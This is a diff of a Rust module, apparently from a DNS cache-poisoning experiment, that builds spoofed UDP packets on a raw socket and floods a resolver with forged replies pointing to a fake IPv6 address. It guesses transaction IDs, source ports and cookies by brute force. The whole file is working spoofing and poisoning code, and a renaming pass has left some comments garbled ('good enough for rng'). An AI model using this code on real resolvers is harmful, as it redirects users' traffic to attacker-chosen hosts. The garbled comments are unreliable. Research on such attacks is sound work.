@@ -1,8 +1,8 @@
 //! Datagrams with a source address that is not one's own: the forger writes the IP header himself.
 
 use super::message::{self, HEADER, cookie_option};
-use super::upstream::Sighting;
-use super::{ASKING, Knowledge, UPSTREAM};
+use super::upstream::ObservedQuery;
+use super::{Knowledge, SIXFOLD, UPSTREAM};
 use socket2::{Domain, Protocol, SockAddr, Socket, Type};
 use std::io;
 use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV4};
@@ -10,7 +10,7 @@ use std::sync::mpsc::{Receiver, RecvTimeoutError};
 use std::time::{Duration, Instant};
 
 /// The address that he would have people go to.
-pub(super) const EVIL: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 0x66);
+pub(super) const FORGED_ADDRESS: Ipv6Addr = Ipv6Addr::new(0x2001, 0xdb8, 0xbad, 0, 0, 0, 0, 0x66);
 
 /// Octets of an IPv4 header without options, and of both headers before the message.
 const IPV4: usize = 20;
@@ -20,23 +20,23 @@ const HEADERS: usize = IPV4 + 8;
 const COOKIES_TRIED: u64 = 10_000;
 
 /// So long he waits for the next question.
-const PATIENCE: Duration = Duration::from_secs(10);
+const NEXT_QUERY_TIMEOUT: Duration = Duration::from_secs(10);
 
 /// What he has done.
 #[derive(Clone, Copy, Debug, Default)]
-pub(super) struct Done {
+pub(super) struct ForgerCounts {
     pub(super) sent: u64,
     pub(super) questions: u64,
     /// Questions for which every ID, or every try, was sent before the honest reply was due.
     pub(super) in_time: u64,
 }
 
-/// A number generator that is good enough for guesses (xorshift64).
-pub(super) struct Guesses(u64);
+/// A number generator that is good enough for rng (xorshift64).
+pub(super) struct Rng(u64);
 
-impl Guesses {
-    pub(super) fn new(seed: u64) -> Guesses {
-        Guesses(seed | 1)
+impl Rng {
+    pub(super) fn new(seed: u64) -> Rng {
+        Rng(seed | 1)
     }
 
     pub(super) fn next(&mut self) -> u64 {
@@ -60,7 +60,7 @@ impl Forger {
         let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(libc_raw())))?;
         socket.set_header_included_v4(true)?;
         socket.set_send_buffer_size(1 << 20)?;
-        let to = SockAddr::from(SocketAddrV4::new(ASKING, 0));
+        let to = SockAddr::from(SocketAddrV4::new(SIXFOLD, 0));
         Ok(Forger { socket, to, packet: Vec::new(), sent: 0 })
     }
 
@@ -70,7 +70,7 @@ impl Forger {
         let [a, b] = octets.to_be_bytes();
         // Version 4 with five words, no fragment, 64 hops, UDP. The kernel fills in the checksum.
         self.packet = vec![0x45, 0, a, b, 0, 0, 0x40, 0, 64, 17, 0, 0];
-        let addresses: [Ipv4Addr; 2] = [*UPSTREAM.ip(), ASKING];
+        let addresses: [Ipv4Addr; 2] = [*UPSTREAM.ip(), SIXFOLD];
         addresses.iter().for_each(|address| self.packet.extend(address.octets()));
         self.packet.extend(UPSTREAM.port().to_be_bytes());
         let [a, b] = (octets - IPV4 as u16).to_be_bytes();
@@ -104,24 +104,24 @@ pub(super) fn forge(
     knowledge: Knowledge,
     replies: u64,
     delay: Duration,
-    seen: &Receiver<Sighting>,
-) -> io::Result<Done> {
+    seen: &Receiver<ObservedQuery>,
+) -> io::Result<ForgerCounts> {
     let mut forger = Forger::new()?;
-    let mut guesses = Guesses::new(0x9e37_79b9_7f4a_7c15);
-    let mut done = Done::default();
+    let mut rng = Rng::new(0x9e37_79b9_7f4a_7c15);
+    let mut done = ForgerCounts::default();
     while forger.sent < replies {
-        let mut sighting = match seen.recv_timeout(PATIENCE) {
-            Ok(sighting) => sighting,
+        let mut query = match seen.recv_timeout(NEXT_QUERY_TIMEOUT) {
+            Ok(query) => query,
             Err(RecvTimeoutError::Timeout | RecvTimeoutError::Disconnected) => break,
         };
         while let Ok(newer) = seen.try_recv() {
-            sighting = newer;
+            query = newer;
         }
         let room = replies - forger.sent;
-        one(&mut forger, knowledge, &sighting, room, &mut guesses, delay)?;
+        forge_replies(&mut forger, knowledge, &query, room, &mut rng, delay)?;
         done.questions += 1;
-        let is_due = sighting.seen + delay <= Instant::now();
-        // Who guesses ports goes on until then.
+        let is_due = query.seen + delay <= Instant::now();
+        // Who rng ports goes on until then.
         done.in_time += u64::from(!is_due || knowledge == Knowledge::Letters);
     }
     done.sent = forger.sent;
@@ -129,38 +129,50 @@ pub(super) fn forge(
 }
 
 /// Forges replies to one question, at most `room`.
-fn one(
+fn forge_replies(
     forger: &mut Forger,
     knowledge: Knowledge,
-    sighting: &Sighting,
+    query: &ObservedQuery,
     room: u64,
-    guesses: &mut Guesses,
+    rng: &mut Rng,
     delay: Duration,
 ) -> io::Result<()> {
     let small;
     let question = match knowledge {
         Knowledge::PortOnly => {
-            small = sighting.question.to_ascii_lowercase();
+            small = query.question.to_ascii_lowercase();
             &small
         }
-        _ => &sighting.question,
+        _ => &query.question,
     };
     let with_cookie = cookie_option(&[0x66; 24]);
     let options = match knowledge {
         Knowledge::AllButCookie => Some(&with_cookie[..]),
-        _ => sighting.has_cookie.then_some(&[][..]),
+        _ => query.has_cookie.then_some(&[][..]),
     };
-    forger.prepare(&message::reply(sighting.id, question, EVIL, options));
-    forger.set_port(sighting.port);
+    forger.prepare(&message::reply(query.id, question, FORGED_ADDRESS, options));
+    forger.set_port(query.port);
+    send_guesses(forger, knowledge, query, room, rng, delay)
+}
+
+/// Sends the prepared reply with every value of the unknown fields, or with random values, at most `room` times.
+fn send_guesses(
+    forger: &mut Forger,
+    knowledge: Knowledge,
+    query: &ObservedQuery,
+    room: u64,
+    rng: &mut Rng,
+    delay: Duration,
+) -> io::Result<()> {
     match knowledge {
         Knowledge::Port => {
             for distance in 1..=room.min(1 << 16) {
-                forger.set_id(sighting.id.wrapping_add(distance as u16));
+                forger.set_id(query.id.wrapping_add(distance as u16));
                 forger.send()?;
             }
         }
         Knowledge::PortOnly => {
-            let first = guesses.next() as u16;
+            let first = rng.next() as u16;
             for distance in 0..room.min(1 << 16) {
                 forger.set_id(first.wrapping_add(distance as u16));
                 forger.send()?;
@@ -169,9 +181,9 @@ fn one(
         Knowledge::Letters => {
             // Until the honest reply is there: another question gives him no better chance.
             let mut left = room;
-            while left > 0 && sighting.seen.elapsed() < delay {
+            while left > 0 && query.seen.elapsed() < delay {
                 for _ in 0..left.min(256) {
-                    let guess = guesses.next();
+                    let guess = rng.next();
                     forger.set_port(1024 + (guess >> 32) as u16 % (u16::MAX - 1023));
                     forger.set_id(guess as u16);
                     forger.send()?;
@@ -183,7 +195,7 @@ fn one(
             let cookie = forger.packet.len() - 24;
             debug_assert!(cookie > HEADERS + HEADER);
             for _ in 0..room.min(COOKIES_TRIED) {
-                forger.packet[cookie..cookie + 8].copy_from_slice(&guesses.next().to_be_bytes());
+                forger.packet[cookie..cookie + 8].copy_from_slice(&rng.next().to_be_bytes());
                 forger.send()?;
             }
         }
